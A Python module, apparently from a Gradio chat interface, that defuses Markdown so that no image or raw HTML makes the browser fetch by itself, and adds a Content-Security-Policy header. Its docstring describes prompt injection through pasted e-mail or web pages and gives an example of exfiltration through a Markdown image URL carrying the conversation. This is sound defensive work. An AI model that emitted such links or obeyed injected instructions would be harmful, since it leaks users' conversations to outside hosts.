"""Message text is untrusted: a model follows instructions hidden in what it reads (a pasted
e-mail, a web page), and an answer ending in `![](https://elsewhere/?q=<the conversation>)`
would send the conversation away as the browser loads the "image". So the chat shows no
message as it was written: `defused` rewrites its Markdown so that nothing in it makes the
browser fetch by itself. Raw HTML shows as text (the browser makes no element of it: no img,
iframe, video, object, meta refresh, style with url(), ...), and an image shows as a link with
its address, which the person may follow.

Code blocks (found with markdown-it: CommonMark, which Gradio's renderer follows too) are left
as they are: Markdown shows every character there as text already, and code copied from them
must stay exact. A code span is only looked for within one line, and inside one a tag's `<` and
an image's `![` get an invisible word joiner: a span shows them as they were, and should the
renderer not take it for a span, they are no tag or image either. Should the two parsers ever
disagree about a code block, the page's Content-Security-Policy (`CSP`) still forbids any fetch
of an image, media, frame or object from another address.
"""

import re
import string

from markdown_it import MarkdownIt
from starlette.types import ASGIApp, Message, Receive, Scope, Send

# Sent with every page of the ui: Gradio's own files, and the data: or blob: ones it makes, only.
CSP = ("img-src 'self' data: blob:; media-src 'self' data: blob:; frame-src 'self'; object-src 'none'; "
       "base-uri 'self'; form-action 'self'")



class ContentSecurityPolicy:
    """ASGI middleware: `CSP` on every response of the ui (passed through Gradio's `launch(app_kwargs=...)`)."""

    def __init__(self, app: ASGIApp):
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        async def send_with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                message["headers"] = [*message.get("headers", []), (b"content-security-policy", CSP.encode())]
            await send(message)

        await self.app(scope, receive, send_with_policy if scope["type"] == "http" else send)


_PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_PARSER.core.ruler.enableOnly(["normalize", "block"])  # where code blocks are is all it is asked
_CODE_BLOCKS = ("fence", "code_block")
_JOINER = "\u2060"
_SPECIAL = re.compile(r"[\\`<!]")  # where a line may need more than copying
_TAG = re.compile(r"<(?=[A-Za-z/!?])")  # an element, a closing tag, a comment or a declaration
_AUTOLINK = re.compile(r"<[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\x00-\x20]*>")  # a link: fetched only if followed
_IMAGE = re.compile(r"""!\[([^\[\]\n]*)\]\(\s*(<[^<>\n]*>|[^\s()<>]+)(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?\s*\)""")
_MARKUP = re.compile(r"([\\\[\]*_`<>&~!|$])")  # what could end a link's text or mark it up


def defused(markdown: str) -> str:
    """`markdown` as it reads, with raw HTML shown as text and images as links with their address."""
    lines = markdown.splitlines(keepends=True)
    in_code = [False] * len(lines)
    for token in _PARSER.parse(markdown):
        if token.type in _CODE_BLOCKS and token.map:
            for n in range(*token.map):
                in_code[n] = True
    return "".join(line if code else _line(line) for line, code in zip(lines, in_code, strict=True))


def _line(text: str) -> str:
    out, i = [], 0
    while (special := _SPECIAL.search(text, i)) is not None:
        out.append(text[i:special.start()])
        i = special.start()
        if text[i] == "\\" and i + 1 < len(text) and text[i + 1] in string.punctuation:
            out.append(text[i:i + 2])
            i += 2
        elif text[i] == "`":
            end = _span_end(text, i)
            out.append(_TAG.sub("<" + _JOINER, text[i:end]).replace("![", "!" + _JOINER + "["))
            i = end
        elif (autolink := _AUTOLINK.match(text, i)) is not None:
            out.append(autolink.group())
            i = autolink.end()
        elif _TAG.match(text, i):
            out.append("&lt;")
            i += 1
        elif (image := _IMAGE.match(text, i)) is not None:
            out.append(_as_link(image.group(1), image.group(2)))
            i = image.end()
        elif text.startswith("![", i):
            out.append("!\\[")  # an image written some other way (a reference, nested brackets): text
            i += 2
        else:
            out.append(text[i])
            i += 1
    out.append(text[i:])
    return "".join(out)


def _span_end(text: str, start: int) -> int:
    """Past the code span that the backticks at `start` open; without a closing run of the same
    length, past those backticks only (CommonMark: they are text)."""
    run = len(text) - start - len(text[start:].lstrip("`"))
    for found in re.finditer(r"`+", text[start + run:]):
        if len(found.group()) == run:
            return start + run + found.end()
    return start + run


def _as_link(alt: str, address: str) -> str:
    address = address.removeprefix("<").removesuffix(">")
    label, shown = _line(alt).strip(), _MARKUP.sub(r"\\\1", address)
    named = f'Image "{label}"' if label else "Image"
    return f"[{named}: {shown}](<{address}>)"
